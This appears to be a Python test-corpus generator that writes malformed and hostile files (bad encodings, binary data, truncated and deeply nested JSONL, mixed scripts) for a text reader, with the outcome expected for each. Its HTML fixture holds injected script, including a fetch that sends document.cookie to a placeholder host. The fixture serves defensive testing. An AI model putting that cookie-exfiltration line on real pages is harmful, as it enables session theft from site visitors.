"""A generated corpus of malformed and hostile inputs, with what a reader must make of each.

``write_corpus(directory)`` writes every case as a file and returns :class:`Case` records:
the file name, whether the reader must ``accept`` it, ``reject`` it (with which error code),
or, for JSONL, how many lines it must accept and reject. Sizes are parameters so CI runs
a bounded corpus and a manual run can use the documented full sizes (``huge_bytes`` of
100 MB, ``no_punct_sentences`` of 10,000). All text is generated here; nothing is copied.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

WORDS = (
    "minister",
    "talks",
    "army",
    "border",
    "village",
    "officials",
    "said",
    "government",
    "protest",
    "police",
    "agreement",
    "sanctions",
    "capital",
    "rebels",
    "aid",
    "election",
)


@dataclass(frozen=True, slots=True)
class Case:
    name: str
    expect: str  # accept | reject | mixed
    code: str | None = None  # the error code of a rejected input
    accepted: int = 0  # mixed (JSONL): documents that must be read
    rejected: int = 0  # mixed (JSONL): lines that must be errors
    note: str = ""


def _sentence(rng: random.Random, n: int = 8) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(n))


def _text(rng: random.Random) -> str:
    return f"The {_sentence(rng, 3)} met on Monday. " + _sentence(rng).capitalize() + "."


QUOTES = (
    "\"plain\" 'single' “curly double” ‘curly single’ „low double“ ‚low single‘ «guillemets» "
    "‹single guillemets› 「corner」 『white corner』 ″double prime″ ′prime′ `backtick´ "
    "the officials’ plan, the ministers' talks, rock ’n’ roll, ’90s, O’Neill said ‛reversed‛."
)
RTL = "قال وزير الخارجية إن المحادثات ستستمر. אמר השר כי השיחות יימשכו. The minister said talks would go on."
CJK = "外交部长周一在北京会见了俄罗斯代表团。東京で首脳会談が開かれた。서울에서 회담이 열렸다. Officials met in Beijing."
HTML = (
    "<html><head><title>Talks resume</title><script>alert('x');document.write('<p>injected</p>')"
    "</script><style>p{color:red}</style></head><body><nav>Home | News</nav><article><h1>Talks resume"
    "</h1><p>The foreign minister of Norway met Sudanese officials in Oslo on Tuesday to discuss a "
    "ceasefire, the ministry said.</p><p>Both sides agreed to meet again next month.</p>"
    "<script>fetch('http://example.invalid/'+document.cookie)</script></article>"
    '<iframe src="javascript:alert(1)"></iframe></body></html>'
)


def _jsonl(rng: random.Random, nested_depth: int) -> dict[str, tuple[bytes, Case]]:
    def good(n: int) -> bytes:  # a valid line with its own id and text
        return json.dumps({"id": f"ok-{n}", "text": _text(rng)}).encode() + b"\n"

    nested = b'{"text": ' + b"[" * nested_depth + b"]" * nested_depth + b"}\n"
    return {
        "nested.jsonl": (
            good(1) + nested + b"[" * nested_depth + b"\n" + good(2),
            Case(
                "nested.jsonl",
                "mixed",
                "E006",
                accepted=2,
                rejected=2,
                note="deep nesting and an unterminated array next to valid lines",
            ),
        ),
        "truncated.jsonl": (
            good(3) + good(4) + b'{"id": "cut", "text": "The minister sa',
            Case("truncated.jsonl", "mixed", "E006", accepted=2, rejected=1),
        ),
        "wrong_types.jsonl": (
            good(5)
            + b'{"text": 42}\n{"id": ["a"], "text": "Officials met."}\n{"text": "x", "date": "31/12/2020"}\n'
            + b'"just a string"\n{"text": "Talks \\ud800 resumed."}\n',
            Case(
                "wrong_types.jsonl",
                "mixed",
                None,
                accepted=1,
                rejected=5,
                note="text not a string, id a list, bad date, not an object, a lone surrogate",
            ),
        ),
        "bad_utf8_line.jsonl": (
            good(6) + b'{"text": "caf\xe9 talks"}\n' + good(7),
            Case("bad_utf8_line.jsonl", "mixed", "E004", accepted=2, rejected=1),
        ),
    }


def cases(
    *,
    seed: int = 0,
    huge_bytes: int = 2_000_000,
    no_punct_sentences: int = 200,
    nested_depth: int = 100_000,
) -> dict[str, tuple[bytes, Case]]:
    """Every case as ``name -> (bytes, Case)``; deterministic for a seed."""
    rng = random.Random(seed)
    text = _text(rng)
    no_punct = " ".join(_sentence(rng, 10) for _ in range(no_punct_sentences))
    out: dict[str, tuple[bytes, Case]] = {
        "binary.txt": (
            bytes(rng.randrange(256) for _ in range(4096)),
            Case("binary.txt", "reject", "E002"),
        ),
        "empty.txt": (b"", Case("empty.txt", "reject", "E003")),
        "whitespace.txt": (b" \t\n\r\n   \n\x0b\x0c", Case("whitespace.txt", "reject", "E003")),
        "latin1.txt": (
            ("Le ministre a déclaré à Genève. " * 4).encode("latin-1"),
            Case("latin1.txt", "reject", "E004", note="valid latin-1, invalid UTF-8"),
        ),
        "mixed_encodings.txt": (
            text.encode() + " Zürich café ".encode("cp1252") + text.encode(),
            Case("mixed_encodings.txt", "reject", "E004"),
        ),
        "bom_utf8.txt": (
            b"\xef\xbb\xbf" + text.encode(),
            Case("bom_utf8.txt", "accept", note="BOM dropped"),
        ),
        "bom_utf16.txt": (
            "\ufeff".encode("utf-16-le") + text.encode("utf-16-le"),
            Case("bom_utf16.txt", "reject", "E002", note="UTF-16 is NUL-rich: binary"),
        ),
        "nul_bytes.txt": (
            text.encode() + b"\x00\x00" + text.encode(),
            Case("nul_bytes.txt", "reject", "E002"),
        ),
        "huge_line.txt": (
            b"a" * huge_bytes,
            Case("huge_line.txt", "reject", "E005", note="one line over max_doc_chars"),
        ),
        "html_scripts.html": (
            HTML.encode(),
            Case("html_scripts.html", "accept", note="scripts dropped"),
        ),
        "quotes.txt": ((f"{text} " + QUOTES).encode(), Case("quotes.txt", "accept")),
        "rtl.txt": (RTL.encode(), Case("rtl.txt", "accept")),
        "cjk.txt": (CJK.encode(), Case("cjk.txt", "accept")),
        "no_punctuation.txt": (
            no_punct.encode(),
            Case(
                "no_punctuation.txt",
                "accept",
                note=f"{no_punct_sentences} sentences, no punctuation",
            ),
        ),
        "control_chars.txt": (
            (text + "\x1b[31m red \x07\x08 " + text).encode(),
            Case("control_chars.txt", "accept"),
        ),
        "only_header.txt": (
            b" date 2020-01-02 AP, PARIS\n\n  \n",
            Case("only_header.txt", "reject", "E003"),
        ),
        "bad_header_date.txt": (
            b" date 2020-13-45 AP, PARIS\nOfficials met.",
            Case("bad_header_date.txt", "reject", "E011"),
        ),
    }
    out.update(_jsonl(rng, nested_depth))
    return out


def write_corpus(directory: str | Path, **sizes: int) -> list[Case]:
    """Write every case under ``directory``; returns the cases (see :func:`cases` for sizes)."""
    root = Path(directory)
    root.mkdir(parents=True, exist_ok=True)
    written: list[Case] = []
    for name, (data, case) in cases(**sizes).items():
        (root / name).write_bytes(data)
        written.append(case)
    return written


def random_text(
    rng: random.Random, *, alphabet: Callable[[random.Random], str] | None = None
) -> str:
    """A short news-like text mixing words, quotes, RTL/CJK fragments and punctuation (fuzzing seed)."""
    parts = [
        _text(rng),
        rng.choice(QUOTES.split()),
        rng.choice(RTL.split()),
        CJK[: rng.randrange(1, 20)],
    ]
    if alphabet:
        parts.append(alphabet(rng))
    rng.shuffle(parts)
    return " ".join(parts)
